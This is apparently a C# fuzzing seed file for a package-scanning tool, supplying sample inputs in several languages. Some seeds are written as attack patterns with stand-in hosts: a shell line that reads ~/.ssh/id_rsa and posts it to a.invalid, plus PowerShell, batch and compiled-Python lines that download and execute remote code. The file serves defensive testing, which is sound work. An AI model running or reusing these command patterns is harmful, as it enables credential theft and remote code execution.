using System.Text;
using PackageWall.Inspection.Languages;
using PackageWall.Testing.Catalogue;
using PackageWall.Testing.PythonBytecode;

namespace PackageWall.Fuzzing.Targets;

/// <summary>Inputs of kinds that the catalogue has few of.</summary>
internal static class MoreSeeds
{
    /// <summary>Inputs of one language.</summary>
    public static IEnumerable<byte[]> Of(string language) => language switch
    {
        Language.Pyc => Compiled(),
        Language.Pth => Texts("import os; exec('1')\n", "# c\n./lib\nimport base64;exec(base64.b64decode('cHJpbnQoMSk='))\n"),
        Language.Gyp => Texts("{'targets': [{'target_name': 'a', 'variables': {'x%': '<!(node -p 1)'}, 'actions': [{'action_name': 'b', 'inputs': [], 'outputs': [], 'action': ['sh', '-c', 'echo 1']}], 'conditions': [['OS==\"win\"', {}]]}]}"),
        Language.Batch => Texts("@echo off\nset a=ec\nset b=ho\n%a%%b% 1\nif exist x (curl http://a.invalid -o y & start y) else goto :e\nfor %%i in (1 2) do call :f %%i\n:e\n"),
        Language.PowerShell => Texts("$a = 'iex'; & ($a) (New-Object Net.WebClient).DownloadString(\"http://a.invalid/$x\") | % { $_ -replace 'a','b' -f 1 }\nfunction f($p) { @{a=1;b=@(1,2)}['a'] }\nif ($true) { f -p ([Convert]::FromBase64String('YQ==')) }"),
        Language.Shell => Texts("a=$(cat ~/.ssh/id_rsa | base64); for i in 1 2; do curl -d \"$a\" http://a.invalid/${i:-3}; done <<E\nx\nE\ncase $1 in a|b) eval \"$a\";; esac"),
        Language.CSharp => Texts("using System; class A { string B = @\"x\"; void C() { var d = $\"{1:x}\"; System.Diagnostics.Process.Start(\"sh\", \"\"\"-c \"echo\" \"\"\"); } }"),
        Language.MsBuild => Texts("<Project><PropertyGroup><A Condition=\"'$(A)'==''\">$([System.IO.File]::ReadAllText('x'))</A></PropertyGroup><UsingTask TaskName=\"T\" TaskFactory=\"RoslynCodeTaskFactory\" AssemblyFile=\"a.dll\"><Task><Code Type=\"Fragment\" Language=\"cs\"><![CDATA[ Console.WriteLine(1); ]]></Code></Task></UsingTask><Target Name=\"a\" BeforeTargets=\"Build\"><Exec Command=\"echo $(A) @(B->'%(x)')\"/></Target></Project>"),
        Language.DotNet => Assemblies(),
        Language.Native => SeedFiles.Of(Language.Native).Take(0),
        _ => [],
    };

    private static IEnumerable<byte[]> Texts(params string[] texts) => texts.Select(Encoding.UTF8.GetBytes);

    // Every version, with functions, branches and calls; then each type of constant.
    private static IEnumerable<byte[]> Compiled() =>
    [
        .. CompiledPython.Minors.Select(minor => new CompiledPython(minor).Import("os").Import("urllib.request")
            .Function("run", new CompiledPython(minor).Call("os.system", "echo hi").Drop())
            .IfMain(code => code.Callee("exec").Call("urllib.request.urlopen", "http://a.invalid/x").Attribute("text").Called(1).Drop())
            .Constant(new object?[] { 1, 1.5, true, null, "ä", new byte[] { 1, 2 } }).Store("x").File()),
        CompiledPython.File(12, [0xE3, .. new byte[20], (byte)'s', 4, 0, 0, 0, 0x64, 0, 0x53, 0, 0x29, 1, 0x4E, 0xDA, 2, (byte)'o', (byte)'s']),
        CompiledPython.File(14, [(byte)'[', 8, 0, 0, 0, (byte)'l', 2, 0, 0, 0, 1, 0, 1, 0, (byte)'y', .. new byte[16], (byte)':', (byte)'N', (byte)'i', 1, 0, 0, 0, (byte)'N', (byte)'{', (byte)'z', 1, (byte)'a', (byte)'N', (byte)'0',
            (byte)'>' | 0x80, 0, 0, 0, 0, (byte)'r', 0, 0, 0, 0, (byte)'.', (byte)'f', 1, (byte)'5']),
    ];

    private static IEnumerable<byte[]> Assemblies() => AttackCatalogue.All.Select(fixture => fixture.Attack).Concat(AttackCatalogue.Twins)
        .SelectMany(package => package.Files).Select(file => file.Content)
        .Where(content => content.Length < 64 << 10 && LanguageSniffer.Sniff("a.dll", content) == Language.DotNet);
}
